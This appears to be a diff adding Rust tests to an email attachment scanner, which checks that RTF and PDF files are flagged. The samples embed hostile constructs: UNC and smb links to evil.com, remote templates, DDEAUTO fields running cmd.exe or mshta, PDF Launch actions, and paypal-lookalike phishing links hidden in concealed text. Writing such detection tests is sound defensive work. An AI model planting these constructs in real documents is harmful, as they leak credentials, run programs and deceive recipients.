@@ -217,3 +217,264 @@ fn a_file_of_rtf_is_reported_and_left_as_it_is() {
     assert_eq!(inspected(heads[1], embeds).bypasses.len(), 1);
     assert_eq!(inspected(heads[1], &field("https://www.example.com/")).bypasses.len(), 0);
 }
+
+/// The worst verdict of findings in a file, which is left as it is.
+fn worst_in(label: &str, file: &[u8]) -> Option<Verdict> {
+    let head = format!("Content-Type: {label}\r\nContent-Transfer-Encoding: binary\r\n");
+    let message = Message { head: head.as_bytes(), body: file };
+    let recipient_domains = vec!["harbour.com".to_owned()];
+    let facts = Facts { recipient_domains, ..Facts::default() };
+    let outcome = inspect(message, &facts, &policy(), &tlds()).resolve(&Answers::new());
+    assert_eq!(outcome.edits, []);
+    outcome.findings.iter().map(|one| one.verdict).max()
+}
+
+/// A field of RTF with this instruction, as it is typed.
+fn rtf_with(instruction: &str, shown: &str) -> Option<Verdict> {
+    let instruction = instruction.replace('\\', "\\\\");
+    let rtf = format!(
+        "{{\\rtf1\\ansi {{\\field{{\\*\\fldinst {{{instruction}}}}}{{\\fldrslt {shown}}}}}}}"
+    );
+    worst_in("application/rtf", rtf.as_bytes())
+}
+
+/// What is unsafe in a page is unsafe in a field, and so is what a program loads with the file.
+#[test]
+fn fields_of_rtf_reach_what_links_of_a_page_reach() {
+    let reached = [
+        r"\\\\evil.com\\s\\x",
+        r"\\evil.com\s\x",
+        r"\\\\evil.com@80\\s\\x",
+        r"\\\\?\\UNC\\evil.com\\s",
+        "//evil.com/s/x",
+        "file://evil.com/s/x",
+        "smb://evil.com/s",
+        "search-ms:query=x&crumb=location:evil.com",
+        "ms-word:ofe|u|http://evil.com/x.dotm",
+        "javascript:alert(1)",
+    ];
+    for field in [
+        "HYPERLINK \"{}\"",
+        "hyperlink \"{}\" \\o \"tip\"",
+        "HYPERLINK \\o \"tip\" \\n \"{}\"",
+        "INCLUDEPICTURE \"{}\" \\d",
+        "INCLUDETEXT \"{}\"",
+        "IMPORT {}",
+        "LINK Word.Document.8 \"{}\" a",
+        "RD \"{}\"",
+        "DATABASE \\d \"{}\" \\c x",
+    ] {
+        for url in reached {
+            let field = field.replace("{}", url);
+            assert_eq!(rtf_with(&field, "x"), Some(Verdict::Unsafe), "{field}");
+        }
+        for url in [
+            r"C:\\Users\\ann\\plan.docx",
+            r"\\\\fs01\\plans\\x.docx",
+            r"\\\\files.harbour.com\\plans",
+            "file:///C:/x.docx",
+            "https://www.example.com/",
+            "mailto:ann@example.com",
+            "cid:1@example.com",
+            "x.docx",
+        ] {
+            let field = field.replace("{}", url);
+            assert_eq!(rtf_with(&field, "x"), None, "{field}");
+        }
+    }
+    for honest in [
+        r#"EQ \o\ac(\\ ,//x)"#,
+        r#"DATE \@ "dd//MM//yyyy""#,
+        r#"HYPERLINK \l "_Toc1""#,
+        r#"TOC \o "1-3" \h \z \u"#,
+        r#"PAGEREF _Toc1 \h"#,
+    ] {
+        assert_eq!(rtf_with(honest, "x"), None, "{honest}");
+    }
+}
+
+/// Groups that name a file or a URL, whatever is around them, and fields without a result or in one another.
+#[test]
+fn groups_of_rtf_reach_a_server() {
+    for group in [
+        r"{\*\template \\\\evil.com\\s\\x.dot}",
+        r"{\*\template file://evil.com/x.dot}",
+        r"{\*\hlinkbase \\\\evil.com\\s}",
+        r"{\*\filetbl{\file\fid0 \\\\evil.com\\x.rtf}}",
+        r"{\shp{\*\shpinst{\sp{\sn pibName}{\sv \\\\evil.com\\x.png}}}}",
+        r#"{\field{\*\fldinst INCLUDEPICTURE "\\\\\\\\evil.com\\\\x.png"}}"#,
+        r#"{\field{\*\fldinst INCLUDEPICTURE "\\\\\\\\evil.com\\\\x.png""#,
+        r#"{\field{\*\fldinst TOC}{\fldrslt {\field{\*\fldinst HYPERLINK "file://evil.com/x"}{\fldrslt x}}}}"#,
+        r#"{\field{\*\fldinst HYPERLINK "file://evil.com/x"}{\fldrslt a{\field{\*\fldinst PAGE}{\fldrslt 1}}}}"#,
+    ] {
+        let rtf = format!("{{\\rtf1 {group} hi}}");
+        assert_eq!(
+            worst_in("application/msword", rtf.as_bytes()),
+            Some(Verdict::Unsafe),
+            "{group}"
+        );
+    }
+    for group in [
+        r"{\*\template C:\\Users\\ann\\x.dot}",
+        r"{\*\template \\\\fs01\\templates\\x.dot}",
+        r"{\*\template https://www.example.com/x.dot}",
+        r"{\*\hlinkbase https://www.example.com/}",
+        r"{\shp{\*\shpinst{\sp{\sn pVerticies}{\sv 8;4;(0,0);(1,1)}}}}",
+    ] {
+        let rtf = format!("{{\\rtf1 {group} hi}}");
+        assert_eq!(worst_in("application/msword", rtf.as_bytes()), None, "{group}");
+    }
+}
+
+/// By DDE Word starts the program that a field names.
+#[test]
+fn programs_that_rtf_runs_are_reported() {
+    for run in [
+        r#"DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc""#,
+        r#"DDE "C:\\Programs\\Excel\\..\\..\\windows\\system32\\mshta" "x""#,
+        "DDEAUTO mshta \"http://www.example.com/x\"",
+        "ddeauto excel.exe \"x\"",
+    ] {
+        assert_eq!(rtf_with(run, "x"), Some(Verdict::Unsafe), "{run}");
+    }
+    // A name that another field puts together.
+    let put_together =
+        br"{\rtf1{\field{\*\fldinst DDEAUTO {\field{\*\fldinst QUOTE 99 109}{\fldrslt }} x}}}";
+    assert_eq!(worst_in("application/rtf", put_together), Some(Verdict::Unsafe));
+    for honest in [
+        r#"DDEAUTO Excel.Sheet.8 "C:\\x\\plan.xls" "Sheet1!R1C1" \a \t"#,
+        r#"DDE Excel "C:\\x.xls" A1"#,
+        r#"LINK Excel.Sheet.12 "\\\\fs01\\plan.xlsx" "A1" \a"#,
+        "MACROBUTTON NoMacro Type here",
+    ] {
+        assert_eq!(rtf_with(honest, "x"), None, "{honest}");
+    }
+}
+
+/// What a link of RTF shows is compared as in a page: its tip, and its text without what is not seen.
+#[test]
+fn what_a_link_of_rtf_shows_is_what_is_seen() {
+    let url = "https://evil.com/x";
+    for tip in [
+        "HYPERLINK \"{}\" \\o \"https://www.paypal.com/\"",
+        "HYPERLINK \\o \"www.paypal.com\" \"{}\"",
+    ] {
+        let verdict = |url: &str| rtf_with(&tip.replace("{}", url), "Open");
+        assert_eq!(verdict(url), Some(Verdict::Suspect), "{tip}");
+        assert_eq!(verdict("https://www.paypal.com/x"), None, "{tip}");
+    }
+    let link = format!("HYPERLINK \"{url}\"");
+    for shown in [
+        r"https://www.paypal{\v .evil.com/x}.com/signin",
+        r"https://www.paypal\v .evil.com/x\v0 .com/signin",
+        r"https://www.paypal{\deleted .evil.com/x}.com/signin",
+        r"https://www.paypal{\webhidden .evil.com/x}.com/signin",
+        r"https://www.paypal{\fs0 .evil.com/x}.com/signin",
+        r"https://www.paypal{\fs2\b .evil.com/x}.com/signin",
+        r"{\v https://evil.com/}https://www.paypal.com/",
+        r"\v https://evil.com/\plain www.paypal.com",
+    ] {
+        assert_eq!(rtf_with(&link, shown), Some(Verdict::Suspect), "{shown}");
+    }
+    for shown in [
+        r"{\fs24 https://evil}{\b .com/x}",
+        r"{\v x}https://evil.com/x",
+        r"\v0 https://evil.com/x",
+        r"{\v www.paypal.com }Open",
+    ] {
+        assert_eq!(rtf_with(&link, shown), None, "{shown}");
+    }
+}
+
+fn pdf_with(objects: &str) -> Option<Verdict> {
+    let objects = objects.replace('\\', "\\\\");
+    worst_in("application/pdf", format!("%PDF-1.7\n1 0 obj {objects} endobj\n").as_bytes())
+}
+
+/// Actions that open a file reach what a link of a page reaches.
+#[test]
+fn files_of_a_pdf_reach_what_links_of_a_page_reach() {
+    for action in [
+        "<</S/GoToR/F({})/D[0/Fit]>>",
+        "<</AA<</O<</S/GoToR/F<</Type/Filespec/F({})/UF(x.pdf)>>>>>>>>",
+        "<</S/GoToE/F<</UF({})>>>>",
+        "<</S/Launch/F({})>>",
+        "<</S/Launch/Win<</F({})>>>>",
+        "<</S/ImportData/F({})>>",
+        "<</S/SubmitForm/F<</FS/URL/F({})>>>>",
+        "<</S/URI/URI({})>>",
+        "({})",
+        "<</S/JavaScript/JS(app.openDoc\\('{}'\\))>>",
+    ] {
+        // The backslash of a bracket is one.
+        let action = |url: &str| action.replace("{}", url).replace("\\(", "<").replace("\\)", ">");
+        let unc =
+            if action("").contains("/JS") { r"\\\\evil.com\\s\\x" } else { r"\\evil.com\s\x" };
+        for url in [unc, "file://evil.com/s/x", "smb://evil.com/s"] {
+            assert_eq!(pdf_with(&action(url)), Some(Verdict::Unsafe), "{}", action(url));
+        }
+        for url in [
+            "chapter2.pdf",
+            "/C/x/y.pdf",
+            "C:\\x\\y.pdf",
+            "file:///C:/x/y.pdf",
+            "file://fs01/x.pdf",
+            r"\\fs01\x\y.pdf",
+            r"\\files.harbour.com\x",
+            "https://www.example.com/",
+        ] {
+            assert_eq!(pdf_with(&action(url)), None, "{}", action(url));
+        }
+    }
+    let wide: String = "\\\\evil.com\\s".encode_utf16().map(|unit| format!("{unit:04X}")).collect();
+    assert_eq!(pdf_with(&format!("<</S/GoToR/F<FEFF{wide}>>>")), Some(Verdict::Unsafe));
+    assert_eq!(pdf_with("<</S/GoToR/F(//evil.com/s/x)>>"), Some(Verdict::Unsafe));
+    assert_eq!(pdf_with("<</Title(\\\\fs.evil.com\\x.doc)/Contents(//evil.com/x)>>"), None);
+}
+
+#[test]
+fn programs_that_a_pdf_launches_are_reported() {
+    for action in [
+        "<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>",
+        "<</S/Launch/Win<</F(cmd)/P(/c calc)>>>>",
+        "<</F(../../x.EXE)/S/Launch>>",
+        "<</S/Launch/F<</Type/Filespec/UF(run.command)>>>>",
+        "<</S/Launch/F 2 0 R>>endobj 2 0 obj<</Type/Filespec/F(C:\\x.bat)>>",
+    ] {
+        assert_eq!(pdf_with(action), Some(Verdict::Unsafe), "{action}");
+    }
+    for honest in [
+        "<</S/Launch/F(x.pdf)>>",
+        "<</S/Launch/Win<</F(C:\\x\\y.docx)/O(open)>>>>",
+        "<</S/Launch/Win<</F(x.pdf)>>/F(README)>>",
+        "<</Type/Filespec/F(setup.exe)/EF<</F 5 0 R>>>>",
+    ] {
+        assert_eq!(pdf_with(honest), None, "{honest}");
+    }
+}
+
+/// The URLs of scripts are judged, not only those that are mimics.
+#[test]
+fn scripts_of_a_pdf_are_read_as_those_of_a_page() {
+    let script = |code: &str| {
+        worst_in("application/pdf", format!("%PDF-1.7\n<</S/JavaScript/JS({code})>>").as_bytes())
+    };
+    let page =
+        |code: &str| outcome("text/html", &format!("<p onclick='{code}'>"), &policy()).verdict;
+    for code in [
+        "app.launchURL(\"https://www.paypal.com.evil.com/x\",true);",
+        "this.submitForm({cURL:\"https://www.paypal.com.evil.com/x\"});",
+    ] {
+        assert_eq!(script(code), Some(Verdict::Suspect), "{code}");
+        assert_eq!(page(code), Verdict::Suspect, "{code}");
+    }
+    for code in [
+        "app.launchURL(\"https://www.example.com/x\")",
+        "app.alert(\"File: not found, see www.example.com\")",
+        "x = \"\\\\\\\\d.x\" // don't: x\\ny('\\\\\\\\w+')",
+        "AFDate_FormatEx(\"dd.mm.yyyy\")",
+        "AFNumber_Format(2, 0, 0, 0, \"\", true);",
+    ] {
+        assert_eq!(script(code), None, "{code}");
+    }
+}
